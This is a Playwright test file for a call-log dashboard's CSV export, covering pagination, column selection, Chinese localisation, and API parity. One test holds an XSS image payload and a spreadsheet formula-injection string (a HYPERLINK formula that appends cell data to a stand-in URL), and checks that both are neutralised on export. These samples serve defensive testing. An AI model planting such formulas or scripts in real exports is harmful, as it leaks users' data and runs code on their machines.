import { parse } from 'csv-parse/sync'
import { type Callboard, downloadedText, expect, test } from './callboard.ts'

const TIME = /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}\+08:00$/

async function start(
  { page, exportDialog, startExport }: Callboard,
  rows: string,
  ...columns: string[]
) {
  await page.getByRole('button', { name: 'Export' }).click()
  await exportDialog.getByRole('radio', { name: rows }).check()
  for (const column of columns)
    await exportDialog.getByRole('checkbox', { name: column, exact: true }).check()
  const download = page.waitForEvent('download')
  await startExport.click()
  return download
}

test('all matching calls, over several pages: every call once, in the order of the list', async ({
  callboard,
}) => {
  const { exportDialog, status } = callboard
  await callboard.open('?range=yesterday&size=10')
  const total = (/of ([\d,]+) calls/.exec(await status.innerText()) ?? [])[1] ?? ''
  const file = await start(callboard, 'All matching calls', 'Session ID', 'Ended', 'Type')
  expect(file.suggestedFilename()).toMatch(
    /^calls_\d{4}-\d\d-\d\d_\d{4}-\d\d-\d\d_Asia-Shanghai\.csv$/,
  )
  await expect(exportDialog.getByRole('status')).toHaveText(`Download started: ${total} calls`)
  const text = await downloadedText(file)
  expect(text.startsWith('\uFEFF')).toBe(true)
  const [head, ...rows] = parse(text, { bom: true })
  expect(head).toEqual([
    'Started',
    'Customer',
    'Our line',
    'Agent',
    'Hangup reason',
    'Wait',
    'Talk time',
    'Labels',
    'Recording',
    'Type',
    'Ended',
    'Session ID',
  ])
  expect(rows).toHaveLength(Number(total.replace(',', '')))
  expect(rows.length).toBeGreaterThan(200)
  expect(new Set(rows.map((row) => row[11])).size).toBe(rows.length)
  expect(rows.filter((row) => !TIME.test(row[0] ?? '') || !TIME.test(row[10] ?? ''))).toEqual([])
  expect(rows.map((row) => row[0])).toEqual(
    rows
      .map((row) => row[0])
      .sort()
      .reverse(),
  )
  expect(new Set(rows.map((row) => row[9]))).toEqual(
    new Set(['Inbound', 'Outbound', 'Campaign to agent']),
  )
  expect(rows.every((row) => /^\d+$/.test(row[6] ?? ''))).toBe(true)
})

test('this page: the calls and columns in sight, and no others', async ({ callboard }) => {
  const { page, rows } = callboard
  await callboard.showColumns('caller', 'hangupReason')
  await callboard.open('?range=yesterday&size=10&page=3')
  const shown = await rows.evaluateAll((all) =>
    all.map((row) => [...row.querySelectorAll('td')].map((cell) => cell.innerText)),
  )
  const file = await start(callboard, 'This page')
  const [head, ...cells] = parse(await downloadedText(file), { bom: true })
  expect(head).toEqual(['Hangup reason', 'Caller'])
  expect(cells.map((row) => row[1])).toEqual(shown.map((row) => row[2]?.trim()))
  expect(cells).toHaveLength(10)
  await expect(page.getByRole('dialog').getByRole('status')).toHaveText(
    'Download started: 10 calls',
  )
})

test('a filtered view in Chinese is exported in Chinese words', async ({ callboard }) => {
  const { page } = callboard
  await callboard.open('?range=yesterday&type=2&reason=9&label=VIP&label=Call+back')
  await page.getByRole('button', { name: 'Settings' }).click()
  await page.getByRole('combobox', { name: 'Language' }).selectOption('简体中文')
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: '导出' }).click()
  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: /^(开始导出|下载)$/ }).click()
  const [head, ...rows] = parse(await downloadedText(await download), { bom: true })
  expect(head?.slice(0, 3)).toEqual(['开始时间', '客户号码', '我方号码'])
  expect(new Set(rows.map((row) => row[4]))).toEqual(new Set(['呼入被挂断']))
  expect(rows.every((row) => /VIP|Call back/.test(row[7] ?? ''))).toBe(true)
})

test('markup comes back as the text it was, and nothing of it would run', async ({ callboard }) => {
  await callboard.open('?range=yesterday&group=!markup')
  const file = await start(callboard, 'All matching calls', 'Called info', 'Remark')
  const [, ...rows] = parse(await downloadedText(file), { bom: true })
  expect(rows).toHaveLength(12)
  const cells = rows.flat()
  expect(cells).toContain('<img src=x onerror="document.title=\'broken\'">')
  expect(cells).toContain('Comma, "Quote" & Sons')
  expect(cells).toContain('first line\nsecond line\r\nthird; with "quotes", commas\tand a tab')
  expect(cells).toContain('ليلى الحسن')
  expect(cells).toContain('🎧 👩🏽‍💼 Zoë')
  expect(cells).toContain('x'.repeat(1000))
  expect(cells).toContain('\'=HYPERLINK("http://example.com/?"&A1,"open")')
  expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/u.test(cell))).toEqual([])
})

test('curl receives the same bytes as the page', async ({ callboard, request }) => {
  await callboard.open('?range=yesterday&type=2')
  const file = await start(callboard, 'All matching calls')
  const query = 'range=yesterday&type=2&format=csv&hold=600'
  const answer = await request.get(`/api/export?${query}`)
  expect(answer.headers()['content-disposition']).toContain(file.suggestedFilename())
  expect(await answer.text()).toBe(await downloadedText(file))
})
